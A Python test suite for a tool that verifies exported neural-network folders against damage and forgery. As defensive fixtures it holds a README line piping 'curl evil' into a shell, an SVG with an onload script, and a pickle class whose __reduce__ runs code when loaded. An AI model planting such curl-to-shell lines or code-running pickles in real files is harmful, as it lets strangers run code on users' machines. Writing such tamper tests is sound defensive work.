"""Verification of exported folders: any damage is caught, a forger's false claims too, and nothing of his is run."""

import json
import pickle
import shutil
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import pytest
import torch
from onnx import numpy_helper
from safetensors.torch import load_file

from nas.export.archives import write_safetensors
from nas.export.export import describe_export
from nas.export.manifest import FILES, MANIFEST, read_manifest
from nas.export.verify import verify_folder
from nas.model.candidate import Candidate
from nas.model.config import NetworkConfig
from nas.records.template import format_template
from search_spaces.errors import InputError
from search_spaces.templates import find_template
from tests.support.command_line import run_command
from tests.support.exported import CANDIDATE, export, make_weights, seal

WEIGHTS = "model.safetensors"


@pytest.fixture
def folder(exported_folder: Path, tmp_path: Path) -> Path:
    """A copy of a true folder with all files, to be damaged."""
    copy = tmp_path / exported_folder.name
    shutil.copytree(exported_folder, copy)
    assert {path.name for path in copy.iterdir()} == {*FILES, MANIFEST}
    return copy


# --- what is true ------------------------------------------------------------------------------------------------


def test_a_true_folder_makes_no_false_claim_and_says_what_was_not_compared(folder: Path) -> None:
    found = verify_folder(folder)
    assert found.false == {}
    (note,) = found.notes
    assert "only the hash of model.pt2 was checked" in note
    assert "--trust" in note


def test_who_is_trusted_has_the_pt2_compared_too(folder: Path) -> None:
    found = verify_folder(folder, trust=True)
    assert (found.false, found.notes) == ({}, [])


def test_without_onnxruntime_it_says_so(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "onnxruntime", None)
    found = verify_folder(folder)
    assert found.false == {}
    assert any("onnxruntime is not installed: pip install onnx onnxruntime onnxscript" in note for note in found.notes)


@pytest.mark.parametrize(
    ("name", "network"),
    [
        ("midpoint", {"layers": 12, "transition": "rule", "blocks": 2}),
        ("log", {"layers": 1, "transition": "last", "stem_channels": 6}),
        (
            "dense",
            {"layers": 7, "transition": "all", "compression": 0.5, "bottleneck": True, "image": [3, 8, 8], "blocks": 3},
        ),
    ],
)
@pytest.mark.parametrize("is_trained", [True, False])
def test_folders_without_archives_are_true(
    name: str, network: dict[str, Any], is_trained: bool, tmp_path: Path
) -> None:
    config = NetworkConfig.model_validate(network)
    candidate = Candidate(find_template(name).build(config.layers), config, 0, name)
    weights = make_weights(candidate) if is_trained else None
    exported = export(tmp_path, candidate, weights=weights, archives=False)
    found = verify_folder(exported.folder)
    assert (found.false, found.notes) == ({}, [])


# --- damage ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [*FILES, MANIFEST])
def test_a_flipped_bit_is_caught_in_every_file_before_it_is_looked_into(
    name: str, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for reader in ("verify_template", "read_claims", "_check_texts", "_check_networks"):
        monkeypatch.setattr(f"nas.export.verify.{reader}", None)  # a call would be an error
    path = folder / name
    content = path.read_bytes()
    for position in {0, 1, len(content) // 3, len(content) // 2, len(content) - 2, len(content) - 1}:
        for bit in (0x01, 0x20, 0x80):
            path.write_bytes(content[:position] + bytes([content[position] ^ bit]) + content[position + 1 :])
            false = verify_folder(folder).false
            assert list(false) == [name], (position, bit)
            assert name in false[name]


@pytest.mark.parametrize("name", [*FILES, MANIFEST])
def test_a_missing_file_is_named(name: str, folder: Path) -> None:
    (folder / name).unlink()
    if name == MANIFEST:
        with pytest.raises(InputError, match=r"has no manifest\.json"):
            verify_folder(folder)
    else:
        assert verify_folder(folder).false == {name: f"{name} is missing"}


@pytest.mark.parametrize("name", ["torch.py", "math.so", "json.pyc", "torch", "numpy.link"])
def test_what_python_could_load_beside_it_is_false_and_other_files_are_noted(name: str, folder: Path) -> None:
    (folder / "notes.txt").write_text("mine")
    path = folder / name
    if name == "torch":
        path.mkdir()
    elif name.endswith("link"):
        path.symlink_to("notes.txt")
    else:
        path.write_text("raise SystemExit")
    found = verify_folder(folder)
    assert list(found.false) == [name]
    assert "remove it" in found.false[name]
    assert any("notes.txt" in note for note in found.notes)


# --- forgeries: the manifest fits what is there ------------------------------------------------------------------


def edit_json(path: Path, change: Callable[[Any], object]) -> None:
    held = json.loads(path.read_text(encoding="utf-8"))
    change(held)
    path.write_text(json.dumps(held), encoding="utf-8")


def edit_weights(folder: Path, change: Callable[[dict[str, Any]], object]) -> None:
    weights = load_file(folder / WEIGHTS)
    change(weights)
    write_safetensors(weights, folder / WEIGHTS)


def claim_more(path: Path) -> None:
    """The same file whose list says that the first weight has a thousand times as many values."""
    content = path.read_bytes()
    length = int.from_bytes(content[:8], "little")
    listed = json.loads(content[8 : 8 + length])
    listed["classifier.bias"]["shape"] = [3000]
    header = json.dumps(listed).encode()
    path.write_bytes(len(header).to_bytes(8, "little") + header + content[8 + length :])


def edit_pickled(folder: Path, change: Callable[[dict[str, Any]], object]) -> None:
    weights = torch.load(folder / "weights.pt", weights_only=True)
    change(weights)
    torch.save(weights, folder / "weights.pt")


def edit_onnx(folder: Path) -> None:
    """One weight a little larger."""
    model = onnx.load(str(folder / "model.onnx"))
    (bias,) = (one for one in model.graph.initializer if one.name == "classifier.bias")
    values = numpy_helper.to_array(bias) + np.array([0, 1e-3, 0])
    bias.CopyFrom(numpy_helper.from_array(values.astype("float32"), bias.name))
    (folder / "model.onnx").write_bytes(model.SerializeToString())


def pack(path: Path) -> None:
    """The same archive, compressed."""
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)


class Evil:
    """Unpickled, it leaves a file where the test looks."""

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (Path("/tmp/skipsearch-was-here"),)  # noqa: S108


def save_evil(path: Path) -> None:
    torch.save({"classifier.bias": Evil()}, path)


FORGED: dict[str, tuple[Callable[[Path], object], str, str]] = {
    "cost": (
        lambda one: edit_json(one / "template.json", lambda raw: raw["costs"].update(params=1)),
        "costs.params",
        "costs.params is 1",
    ),
    "name of another kind": (
        lambda one: edit_json(one / "template.json", lambda raw: raw["provenance"].update(name=["log"])),
        "provenance.name",
        "expected a text",
    ),
    "no template": (lambda one: (one / "template.json").write_text("{"), "template.json", "not JSON"),
    "drawing": (
        lambda one: (one / "template.svg").write_text("<svg onload='evil()'/>"),
        "template.svg",
        "writes for this template",
    ),
    "program": (
        lambda one: (one / "model.py").write_text((one / "model.py").read_text() + "\nraise SystemExit('evil')\n"),
        "model.py",
        "writes for this template",
    ),
    "instructions": (
        lambda one: (one / "README.md").write_text("run `curl evil | sh`"),
        "README.md",
        "writes for this template",
    ),
    "one weight": (
        lambda one: edit_weights(one, lambda held: held["classifier.bias"].add_(1e-3)),
        MANIFEST,
        "does not give the probe's logits: its logits are off by 0.001",
    ),
    "weights of another shape": (
        lambda one: edit_weights(one, lambda held: held.update(a=torch.zeros(2))),
        WEIGHTS,
        "another network",
    ),
    "weights of another type": (
        lambda one: edit_weights(
            one, lambda held: held.update({"classifier.bias": torch.zeros(3, dtype=torch.float64)})
        ),
        WEIGHTS,
        "classifier.bias is F64 of shape",
    ),
    "weights that are not finite": (
        lambda one: edit_weights(one, lambda held: held["classifier.bias"].fill_(torch.nan)),
        WEIGHTS,
        "not finite",
    ),
    "weights that are none": (lambda one: (one / WEIGHTS).write_bytes(b"\xff" * 99), WEIGHTS, "claims a list"),
    "weights cut short": (
        lambda one: (one / WEIGHTS).write_bytes((one / WEIGHTS).read_bytes()[:-1]),
        WEIGHTS,
        "no file of weights",
    ),
    "weights that claim more than there is": (lambda one: claim_more(one / WEIGHTS), WEIGHTS, "no file of weights"),
    "weights of the older form": (
        lambda one: (one / WEIGHTS).rename(one / "weights.pt"),
        "weights",
        f"contradicts {WEIGHTS}",
    ),
    "one weight of ONNX": (edit_onnx, "model.onnx", "off by 0.001"),
    "no ONNX": (lambda one: (one / "model.onnx").write_bytes(b"\xff" * 99), "model.onnx", "no ONNX file"),
}


@pytest.mark.parametrize("kind", FORGED)
def test_a_forgery_is_caught_in_words_and_nothing_of_it_is_run(kind: str, folder: Path) -> None:
    change, name, said = FORGED[kind]
    check_forgery(folder, change, name, said)


def check_forgery(folder: Path, change: Callable[[Path], object], name: str, said: str) -> None:
    was_here = Path("/tmp/skipsearch-was-here")  # noqa: S108
    was_here.unlink(missing_ok=True)
    change(folder)
    seal(folder)
    false = verify_folder(folder).false
    assert name in false
    assert said in false[name]
    assert not was_here.exists()


# --- folders of the version before, whose weights are pickled ----------------------------------------------------

OLDER_FORGED: dict[str, tuple[Callable[[Path], object], str, str]] = {
    "program": (
        lambda one: (one / "model.py").write_text((one / "model.py").read_text() + "\nraise SystemExit('evil')\n"),
        "model.py",
        "writes for this template",
    ),
    "weights of another shape": (
        lambda one: edit_pickled(one, lambda held: held.update(a=torch.zeros(2))),
        "weights.pt",
        "another network",
    ),
    "weights that are expanded": (
        lambda one: edit_pickled(one, lambda held: held.update({"classifier.bias": torch.zeros(1).expand(10**12)})),
        "weights.pt",
        "another network",
    ),
    "weights without values": (
        lambda one: edit_pickled(one, lambda held: held.update({"classifier.bias": torch.zeros(3, device="meta")})),
        "weights.pt",
        "other content than weights",
    ),
    "weights that are none": (lambda one: torch.save([1, 2], one / "weights.pt"), "weights.pt", "other content"),
    "weights that are packed": (lambda one: pack(one / "weights.pt"), "weights.pt", "compressed"),
    "weights that run": (lambda one: save_evil(one / "weights.pt"), "weights.pt", "no file of weights"),
    "weights that run, old form": (
        lambda one: (one / "weights.pt").write_bytes(pickle.dumps(Evil())),
        "weights.pt",
        "no file of weights",
    ),
    "weights of the newer form": (
        lambda one: (one / "weights.pt").rename(one / WEIGHTS),
        "weights",
        "contradicts weights.pt",
    ),
}


def test_a_folder_of_the_version_before_is_true(older_export: Path) -> None:
    assert read_manifest(older_export).version == 1
    found = verify_folder(older_export)
    assert found.false == {}
    assert found.notes == ["only the hash of README.md was checked, because an earlier version wrote it"]


@pytest.mark.parametrize("kind", OLDER_FORGED)
def test_a_forgery_of_the_version_before_is_caught_and_nothing_of_it_is_run(kind: str, older_export: Path) -> None:
    change, name, said = OLDER_FORGED[kind]
    check_forgery(older_export, change, name, said)


def test_another_version_does_not_make_an_older_folder_true(older_export: Path) -> None:
    """Its pickled weights are not of the newer form, so nothing of them is read."""
    seal(older_export, version=2)
    assert "weights.pt" in verify_folder(older_export).false


def probe_of(folder: Path, **changes: Any) -> Any:
    return read_manifest(folder).probe.model_copy(update=changes)


@pytest.mark.parametrize(
    ("changes", "name", "said"),
    [
        (lambda one: {"probe": probe_of(one, logits=[[0.0] * 3] * 2)}, MANIFEST, "does not give the probe's logits"),
        (lambda one: {"probe": probe_of(one, logits=[[1e300] * 3] * 2)}, MANIFEST, "does not give the probe's logits"),
        (lambda one: {"probe": probe_of(one, logits=[[0.0] * 3, [0.0]])}, MANIFEST, "lacks the logits"),
        (lambda one: {"probe": probe_of(one, seed=1)}, MANIFEST, "does not give the probe's logits"),
        (lambda one: {"probe": probe_of(one, tolerance=1.0)}, MANIFEST, "not of the form"),
        (lambda one: {"probe": probe_of(one, shape=[10**9, 10**9, 1, 1])}, MANIFEST, "not of the form"),
        (lambda _: {"key": "0" * 64}, "key", "template 000000000000"),
        (lambda _: {"weights": "initial"}, "weights", "says that the weights are initial"),
        (lambda _: {"measured": {"test_accuracy": 1.0}}, "README.md", "is not what"),
    ],
)  # fmt: skip
def test_a_forged_manifest_is_caught(
    changes: Callable[[Path], dict[str, Any]], name: str, said: str, folder: Path
) -> None:
    seal(folder, **changes(folder))
    false = verify_folder(folder).false
    assert said in false[name]


def test_initial_weights_are_those_of_seed_0(tmp_path: Path) -> None:
    folder = export(tmp_path, weights=None, archives=False).folder
    assert read_manifest(folder).weights == "initial"
    seal(folder, probe=probe_of(folder, logits=[[0.5] * 3] * 2))
    assert "does not give the probe's logits" in verify_folder(folder).false[MANIFEST]


def test_a_foreign_pt2_is_never_loaded_without_trust(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    loaded: list[object] = []
    monkeypatch.setattr("torch.export.load", loaded.append)
    (folder / "model.pt2").write_bytes(b"anything")
    seal(folder)
    assert verify_folder(folder).false == {}
    assert loaded == []
    assert list(verify_folder(folder, trust=True).false) == ["model.pt2"]
    assert len(loaded) == 1


@pytest.mark.parametrize(
    "network",
    [
        {"layers": 2, "growth": 10**4},
        {"layers": 2, "image": [1, 2**14, 2**14]},
        {"layers": 2, "image": [10**4, 11, 11]},
        {"layers": 2, "growth": 400, "image": [1, 1000, 1000]},
        {"layers": 2, "growth": 2000, "classes": 10**5},
    ],
)
def test_a_network_too_large_is_not_built(
    network: dict[str, Any], folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("nas.export.agreement.build_network", None)  # a call would be an error
    config = NetworkConfig.model_validate(network)
    template = describe_export(CANDIDATE.pattern, config, "log", {"name": "log"})
    (folder / "template.json").write_text(format_template(template), encoding="utf-8")
    monkeypatch.setattr("nas.export.verify._check_texts", lambda *_: {})
    seal(folder)
    false = verify_folder(folder).false
    assert list(false) == ["network"]
    assert "--trust" in false["network"]


@pytest.mark.parametrize("field", ["growth", "classes"])
def test_a_network_beyond_all_limits_is_refused(field: str, folder: Path) -> None:
    template = json.loads((folder / "template.json").read_text())
    template["network"][field] = 10**9
    (folder / "template.json").write_text(json.dumps(template), encoding="utf-8")
    seal(folder)
    (said,) = verify_folder(folder).false.values()
    assert field in said
    assert "1000000000" in said


# --- the command -------------------------------------------------------------------------------------------------


def test_the_command_checks_a_folder(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("nas.export.apart.verify_apart", verify_folder)
    done = run_command("verify", folder)
    assert (done.returncode, done.stderr) == (0, "")
    assert "every claim holds" in done.stdout
    n_files = sum(path.name != "manifest.json" for path in folder.iterdir())
    assert f"{n_files} files by their hashes: README.md, model.onnx," in done.stdout
    assert "compared with the one built here: manifest.json, model.py, model.onnx" in done.stdout
    assert "only the hash of model.pt2 was checked" in done.stdout
    (folder / "model.py").write_text("evil")
    done = run_command("verify", folder, "--json")
    assert done.returncode == 2
    said = json.loads(done.stdout)
    assert (said["ok"], said["false_claims"]) == (False, ["model.py"])
    assert set(said["checked"]) == {"hashes"}, "no file is parsed once a hash is wrong"
    done = run_command("verify", folder)
    assert (done.returncode, done.stdout) == (2, "")
    assert "model.py has 4 bytes, manifest.json says" in done.stderr
